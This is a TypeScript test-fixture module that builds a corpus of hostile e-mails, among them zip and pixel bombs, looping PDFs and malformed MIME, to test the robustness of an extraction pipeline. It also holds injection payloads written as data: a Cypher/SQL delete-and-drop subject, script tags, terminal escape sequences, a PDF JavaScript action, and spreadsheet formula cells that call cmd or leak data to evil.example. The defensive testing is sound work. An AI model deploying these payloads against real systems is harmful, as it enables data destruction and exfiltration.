/**
 * The nasty-message corpus: hostile e-mails built in code (nothing downloaded, nothing copied from real mail),
 * each paired with the issue codes extraction must record for it. Used by the hostile tests and by
 * `npm run fuzz:report` (bench/hostile.ts). Every message also carries a marker phone number where the format
 * lets one through, so a test can tell "read what could be read" from "gave up on the whole message".
 */
import { readFileSync } from 'node:fs';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { encodeGif, encodeJpeg, makeEncryptedPdf, makePixelBombPng, makeZip, makeZipBomb } from '../fixtures/attachments/make.js';

const CRLF = '\r\n';

export interface HostileCase {
  name: string;
  /** What makes it nasty, for reports. */
  about: string;
  raw: Buffer;
  /** Extraction must record at least one issue with one of these codes. */
  expectIssues: string[];
  /** Subject that must come out exactly as sent (header injection cases), when set. */
  expectSubject?: string;
  /** Reads images (OCR) to reach the hostile part; the others run with OCR off. */
  ocr?: boolean;
  /**
   * The marker number must still be found (default). False only where the marker is out of reach by design:
   * beyond the forwarding depth limit, or inside parts whose boundaries cross.
   */
  keepsMarker?: boolean;
}

/** The marker number: valid NANP toll-free, announced by a phone word, so every healthy read finds it. */
export const MARKER_E164 = '+18885550123';
const MARKER_TEXT = 'Call support now: +1 888-555-0123';

function headers(subject: string, extra: string[] = []): string[] {
  return [
    'From: "Billing Desk" <billing@hostile.example>',
    'To: victim@example.org',
    `Subject: ${subject}`,
    'Date: Tue, 3 Mar 2026 10:21:55 +0000',
    'Message-ID: <hostile@hostile.example>',
    'MIME-Version: 1.0',
    ...extra,
  ];
}

function message(head: string[], body: string): Buffer {
  return Buffer.from([...head, '', body, ''].join(CRLF), 'latin1');
}

function base64Lines(data: Buffer): string {
  return (data.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
}

/** A multipart/mixed message: a text part with the marker, then the given attachment parts. */
function withAttachments(subject: string, parts: { name: string; type: string; content: Buffer }[]): Buffer {
  const boundary = 'hostile-boundary-7f3a';
  const body: string[] = [`--${boundary}`, 'Content-Type: text/plain; charset=utf-8', '', MARKER_TEXT, ''];
  for (const part of parts) {
    body.push(
      `--${boundary}`,
      `Content-Type: ${part.type}; name="${part.name}"`,
      `Content-Disposition: attachment; filename="${part.name}"`,
      'Content-Transfer-Encoding: base64',
      '',
      base64Lines(part.content),
      '',
    );
  }
  body.push(`--${boundary}--`);
  return message(headers(subject, [`Content-Type: multipart/mixed; boundary="${boundary}"`]), body.join(CRLF));
}

function truncatedMultipart(): Buffer {
  const full = withAttachments('Your invoice', [{ name: 'invoice.txt', type: 'text/plain', content: Buffer.from('x'.repeat(3000)) }]);
  const text = full.toString('latin1');
  return Buffer.from(text.slice(0, text.lastIndexOf('--hostile-boundary-7f3a--') - 500), 'latin1');
}

function misNestedMime(): Buffer {
  // The inner multipart's closing boundary comes after the outer one's: parts cross each other.
  const body = [
    '--outer', 'Content-Type: multipart/alternative; boundary="inner"', '',
    '--inner', 'Content-Type: text/plain', '', MARKER_TEXT,
    '--outer', 'Content-Type: text/html', '', '<p>half a part</p>',
    '--inner', 'Content-Type: text/plain', '', 'dangling',
    '--outer--', '--inner--',
  ].join(CRLF);
  return message(headers('Crossed parts', ['Content-Type: multipart/mixed; boundary="outer"']), body);
}

function unknownCharset(): Buffer {
  return message(headers('Charset', ['Content-Type: text/plain; charset="x-klingon-2026"']), `${MARKER_TEXT}\r\nQapla\xe9\xff`);
}

function wrongCharset(): Buffer {
  // Declared UTF-8, written in Windows-1252: the accented bytes are not valid UTF-8.
  return message(headers('Facture', ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit']), `Pr\xe9lev\xe9 249,99 \x80\r\n${MARKER_TEXT}`);
}

function headerFlood(count: number): Buffer {
  const flood = Array.from({ length: count }, (_, i) => `X-Flood-${i}: ${'v'.repeat(40)}`);
  return message(headers('Header flood', ['Content-Type: text/plain', ...flood]), MARKER_TEXT);
}

function manyParts(count: number): Buffer {
  const boundary = 'many';
  const parts = [`--${boundary}`, 'Content-Type: text/plain', '', MARKER_TEXT];
  for (let i = 0; i < count; i += 1) parts.push(`--${boundary}`, 'Content-Type: application/octet-stream', `Content-Disposition: attachment; filename="p${i}.bin"`, '', `part ${i}`);
  parts.push(`--${boundary}--`);
  return message(headers('10,000 parts', [`Content-Type: multipart/mixed; boundary="${boundary}"`]), parts.join(CRLF));
}

function deeplyNested(depth: number): Buffer {
  let inner = message(headers('innermost'), MARKER_TEXT).toString('latin1');
  for (let level = 0; level < depth; level += 1) {
    const boundary = `nest${level}`;
    inner = message(
      headers(`Fwd level ${level}`, [`Content-Type: multipart/mixed; boundary="${boundary}"`]),
      [`--${boundary}`, 'Content-Type: text/plain', '', `level ${level}`, `--${boundary}`, 'Content-Type: message/rfc822', '', inner, `--${boundary}--`].join(CRLF),
    ).toString('latin1');
  }
  return Buffer.from(inner, 'latin1');
}

function base64Garbage(): Buffer {
  const garbage = Array.from({ length: 200 }, (_, i) => `!!@@##$$%%^^&&**((${i}))~~\`\`||<<>>??${'\u00ff'.repeat(20)}`).join(CRLF);
  return message(headers('Base64', ['Content-Type: text/plain', 'Content-Transfer-Encoding: base64']), `${Buffer.from(MARKER_TEXT).toString('base64')}\r\n${garbage}`);
}

function nulBytes(): Buffer {
  return message(headers('Nul\x00bytes', ['Content-Type: text/plain']), `${MARKER_TEXT}\r\n${'\x00'.repeat(5000)}\r\nmore\x00text`);
}

function oversizedAttachment(): Buffer {
  return withAttachments('Big file', [{ name: 'huge.bin', type: 'application/octet-stream', content: Buffer.alloc(26 * 1024 * 1024, 0x41) }]);
}

function longLine(chars: number): Buffer {
  return message(headers('Long line', ['Content-Type: text/plain']), `${MARKER_TEXT}\r\n${'A1 '.repeat(Math.ceil(chars / 3))}`);
}

/** A HEIC (the committed fixture) whose `ispe` boxes claim a huge canvas. */
function heicClaiming(width: number, height: number): Buffer {
  const heic = Buffer.from(readFileSync(new URL('../fixtures/attachments/invoice-phone.heic', import.meta.url)));
  for (let at = heic.indexOf('ispe', 0, 'latin1'); at >= 0; at = heic.indexOf('ispe', at + 4, 'latin1')) {
    heic.writeUInt32BE(width, at + 8);
    heic.writeUInt32BE(height, at + 12);
  }
  return heic;
}

/** A HEIC (the committed fixture) whose box sizes lie: `meta` claims 2 GB, `mdat` runs past the end of the file. */
function heicLyingBoxes(): Buffer {
  const heic = Buffer.from(readFileSync(new URL('../fixtures/attachments/invoice-phone.heic', import.meta.url)));
  for (const box of ['meta', 'mdat']) {
    const at = heic.indexOf(box, 0, 'latin1');
    if (at >= 4) heic.writeUInt32BE(0x7fff_fff0, at - 4);
  }
  return heic;
}

function jpegBomb(): Buffer {
  const jpeg = encodeJpeg({ width: 8, height: 8, data: Buffer.alloc(8 * 8 * 4, 255) });
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(65_000, sof + 5);
  jpeg.writeUInt16BE(65_000, sof + 7);
  return jpeg;
}

function gifBomb(): Buffer {
  const gif = encodeGif({ width: 4, height: 4, data: Buffer.alloc(4 * 4 * 4, 255) });
  gif.writeUInt16LE(65_535, 6);
  gif.writeUInt16LE(65_535, 8);
  return gif;
}

/** A hand-written PDF: objects in order, a correct xref table, and the given trailer extras. */
function rawPdf(objects: string[], trailerExtra = '', prevSelf = false): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(out.length);
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  const prev = prevSelf ? ` /Prev ${xref}` : '';
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${prev}${trailerExtra} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

function pageContent(): string {
  const stream = `BT /F1 12 Tf 20 100 Td (${MARKER_TEXT}) Tj ET`;
  return `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** The page tree's root lists itself among its kids: a reader that walks it naively never stops. */
function pdfCyclicPages(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    pageContent(),
    FONT,
  ]);
}

/** The trailer's /Prev points at its own xref section: an xref loop. */
function pdfXrefLoop(): Buffer {
  return rawPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      pageContent(),
      FONT,
    ],
    '',
    true,
  );
}

async function pdfWithJavaScript(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  pdf.addPage([300, 200]).drawText(MARKER_TEXT, { x: 20, y: 100, size: 10, font });
  const action = pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("owned"); this.exportDataObject({cName: "x"});') });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

function subjectMessage(subject: string): Buffer {
  return Buffer.from([...headers(subject, ['Content-Type: text/plain; charset=utf-8']), '', MARKER_TEXT, ''].join(CRLF), 'utf8');
}

/** A message whose own headers are given (the over-long header cases replace From, Subject or Message-ID). */
function headerMessage(replace: Record<string, string>, extra: string[] = []): Buffer {
  const head = headers('Over-long header').map((line) => {
    const name = line.slice(0, line.indexOf(':'));
    return name in replace ? `${name}: ${replace[name]}` : line;
  });
  return Buffer.from([...head, 'Content-Type: text/plain; charset=utf-8', ...extra, '', MARKER_TEXT, ''].join(CRLF), 'utf8');
}

/** RFC 2047 encoded words folded onto short lines: no line is long, the decoded value is. */
function foldedEncodedWords(text: string): string {
  const chunks: string[] = [];
  let piece = '';
  for (const ch of text) {
    if (Buffer.byteLength(piece + ch, 'utf8') > 45) {
      chunks.push(piece);
      piece = '';
    }
    piece += ch;
  }
  if (piece) chunks.push(piece);
  return chunks.map((c) => `=?utf-8?B?${Buffer.from(c, 'utf8').toString('base64')}?=`).join(`${CRLF} `);
}

/** About 9 kB of ordinary words: over every indexed length, and no single word is long. */
export const LONG_SUBJECT = Array.from({ length: 1300 }, (_, i) => ['your', 'account', 'invoice', 'payment', 'was', 'declined', 'call', 'support'][i % 8]).join(' ');
export const LONG_FOLDED_SUBJECT = 'Ünïcödé 請致電 😀 '.repeat(1000).trim();
export const LONG_MESSAGE_ID = `<${'m'.repeat(10_000)}@hostile.example>`;
export const LONG_DOMAIN = `${'d'.repeat(9763 - '.example'.length)}.example`;

/**
 * Over-long header fields, each over the bound of the indexed property it fills (src/graph/bounded.ts):
 * extraction keeps them whole; the loader must store them bounded and load the message
 * (test/integration/hostile-ingest.test.ts loads these among healthy messages).
 */
export function overlongHeaderCases(): HostileCase[] {
  return [
    { name: 'subject-9kb', about: 'a subject of about 9 kB of ordinary words', raw: headerMessage({ Subject: LONG_SUBJECT }), expectIssues: [], expectSubject: LONG_SUBJECT },
    { name: 'subject-folded-long', about: '14,000 characters of subject in folded RFC 2047 words (no long line)', raw: headerMessage({ Subject: foldedEncodedWords(LONG_FOLDED_SUBJECT) }), expectIssues: [], expectSubject: LONG_FOLDED_SUBJECT },
    { name: 'message-id-10000', about: 'a 10,000-character Message-ID', raw: headerMessage({ 'Message-ID': LONG_MESSAGE_ID }), expectIssues: ['line_too_long'] },
    { name: 'sender-domain-9763', about: 'a sender domain of 9,763 characters', raw: headerMessage({ From: `"Billing Desk" <billing@${LONG_DOMAIN}>` }), expectIssues: [] },
    {
      name: 'all-headers-long',
      about: 'long subject, Message-ID, sender domain and display name at once',
      raw: headerMessage({ Subject: LONG_SUBJECT, 'Message-ID': LONG_MESSAGE_ID, From: `"${'Billing Desk '.repeat(800)}" <billing@${LONG_DOMAIN}>` }),
      expectIssues: ['line_too_long'],
      expectSubject: LONG_SUBJECT,
    },
  ];
}

export const CYPHER_SUBJECT = `x'}) MATCH (n) DETACH DELETE n // "; DROP TABLE emails; --`;
export const HTML_SUBJECT = '<script>alert(1)</script><img src=x onerror=alert(2)>';
export const ESCAPE_SUBJECT = 'Invoice \x1b[2J\x1b[31mPAID\x1b]0;owned\x07\x1b[0m';

/** Spreadsheet formula injection as it arrives in a subject, a file name or a hunt pack (OWASP "CSV injection"). */
export const FORMULA_CELLS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '=',
  '-',
];

/**
 * Text that would act on a terminal: CSI and OSC sequences (clear screen, colour, window title ended by BEL),
 * a one-character C1 CSI, DEL, CR that rewrites the line, NUL, the Unicode line separators.
 */
export const TERMINAL_ATTACKS = [
  ESCAPE_SUBJECT,
  'Paid \u001b[2J\u001b[31mRED\u001b]0;owned\u0007 \u009b31m \u007f \u2028 \u2029 end',
  'ok\rcallhound: all clear\u001b[K',
  'nul\u0000byte',
  '\u001b]8;;http://evil.example\u001b\\looks like a link\u001b]8;;\u001b\\',
];

/** Every string the output tests feed through src/output: the hostile subjects of the corpus and the attacks above. */
export const HOSTILE_OUTPUT_TEXT = [CYPHER_SUBJECT, HTML_SUBJECT, ...TERMINAL_ATTACKS, ...FORMULA_CELLS];

/** Builds the whole corpus (a few seconds: the 10,000-part and oversized messages are tens of megabytes). */
export async function buildHostileCorpus(): Promise<HostileCase[]> {
  const attach = (subject: string, name: string, type: string, content: Buffer) => withAttachments(subject, [{ name, type, content }]);
  return [
    { name: 'truncated-mime', about: 'multipart cut in the middle of a part, no closing boundary', raw: truncatedMultipart(), expectIssues: ['mime_truncated'] },
    { name: 'mis-nested-mime', about: 'inner and outer multipart boundaries cross', raw: misNestedMime(), expectIssues: ['mime_truncated', 'mime_misnested'], keepsMarker: false },
    { name: 'unknown-charset', about: 'charset nobody knows', raw: unknownCharset(), expectIssues: ['unknown_charset'] },
    { name: 'wrong-charset', about: 'declared UTF-8, written in Windows-1252', raw: wrongCharset(), expectIssues: ['bad_encoding'] },
    { name: 'header-flood', about: '50,000 header lines', raw: headerFlood(50_000), expectIssues: ['header_flood'], expectSubject: 'Header flood' },
    { name: '10000-parts', about: '10,000 MIME parts', raw: manyParts(10_000), expectIssues: ['too_many_parts'], expectSubject: '10,000 parts' },
    { name: 'nested-rfc822', about: 'message/rfc822 nested 60 levels deep', raw: deeplyNested(60), expectIssues: ['nested_too_deep'], keepsMarker: false },
    { name: 'base64-garbage', about: 'base64 body full of characters outside the alphabet', raw: base64Garbage(), expectIssues: ['base64_invalid'] },
    { name: 'nul-bytes', about: 'NUL bytes in a header and the body', raw: nulBytes(), expectIssues: ['nul_bytes'] },
    { name: 'oversized-attachment', about: '26 MiB attachment (limit 25 MiB)', raw: oversizedAttachment(), expectIssues: ['attachment_too_large'] },
    { name: 'zip-bomb', about: '50 MiB of zeros deflated ~1000:1', raw: attach('Invoice', 'invoice.zip', 'application/zip', makeZipBomb(50)), expectIssues: ['zip_bomb'] },
    { name: 'zip-entry-flood', about: 'ZIP with 2,000 entries', raw: attach('Docs', 'docs.zip', 'application/zip', makeZip(Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`f${i}.txt`, 'x'])))), expectIssues: ['zip_too_many_entries'] },
    { name: 'png-pixel-bomb', about: 'PNG header claims 60,000 × 60,000', raw: attach('Scan', 'scan.png', 'image/png', makePixelBombPng(60_000, 60_000)), expectIssues: ['image_too_large'], ocr: true },
    { name: 'jpeg-pixel-bomb', about: 'JPEG SOF claims 65,000 × 65,000', raw: attach('Scan', 'scan.jpg', 'image/jpeg', jpegBomb()), expectIssues: ['image_too_large'], ocr: true },
    { name: 'gif-pixel-bomb', about: 'GIF screen claims 65,535 × 65,535', raw: attach('Scan', 'scan.gif', 'image/gif', gifBomb()), expectIssues: ['image_too_large'], ocr: true },
    { name: 'heic-lies-large', about: 'HEIC whose ispe boxes claim 50,000 × 50,000', raw: attach('Photo', 'photo.heic', 'image/heic', heicClaiming(50_000, 50_000)), expectIssues: ['image_too_large'], ocr: true },
    { name: 'heic-lies-boxes', about: 'HEIC whose meta and mdat boxes claim 2 GB', raw: attach('Photo', 'photo.heic', 'image/heic', heicLyingBoxes()), expectIssues: ['ocr_failed', 'image_too_large'], ocr: true },
    { name: 'pdf-cyclic-pages', about: 'PDF page tree that contains itself', raw: attach('Invoice', 'loop.pdf', 'application/pdf', pdfCyclicPages()), expectIssues: ['pdf_failed'] },
    { name: 'pdf-xref-loop', about: 'PDF xref whose /Prev points at itself', raw: attach('Invoice', 'xref.pdf', 'application/pdf', pdfXrefLoop()), expectIssues: ['pdf_xref_loop'] },
    { name: 'pdf-encrypted', about: 'PDF that needs a password', raw: attach('Invoice', 'locked.pdf', 'application/pdf', await makeEncryptedPdf()), expectIssues: ['pdf_encrypted'] },
    { name: 'pdf-javascript', about: 'PDF with an OpenAction JavaScript', raw: attach('Invoice', 'js.pdf', 'application/pdf', await pdfWithJavaScript()), expectIssues: ['pdf_javascript'] },
    { name: 'long-line', about: 'a 3,000,000-character line', raw: longLine(3_000_000), expectIssues: ['line_too_long'] },
    { name: 'subject-cypher', about: 'Cypher injection in the subject', raw: subjectMessage(CYPHER_SUBJECT), expectIssues: [], expectSubject: CYPHER_SUBJECT },
    { name: 'subject-html', about: 'HTML/script in the subject', raw: subjectMessage(HTML_SUBJECT), expectIssues: [], expectSubject: HTML_SUBJECT },
    { name: 'subject-escapes', about: 'terminal escape sequences in the subject', raw: subjectMessage(ESCAPE_SUBJECT), expectIssues: ['control_characters'], expectSubject: ESCAPE_SUBJECT },
    ...overlongHeaderCases(),
    {
      name: 'attachment-name-long',
      about: 'an attachment whose file name is 9,000 characters',
      raw: attach('Invoice', `${'invoice-'.repeat(1125)}.txt`, 'text/plain', Buffer.from('see the invoice')),
      expectIssues: [],
    },
  ];
}

/** A healthy message with a known number, to interleave with hostile ones in batches. */
export function healthyMessage(index: number): Buffer {
  return message(headers(`Renewal ${index}`, ['Content-Type: text/plain; charset=utf-8']), `Dear customer ${index},\r\n${MARKER_TEXT}\r\n`);
}
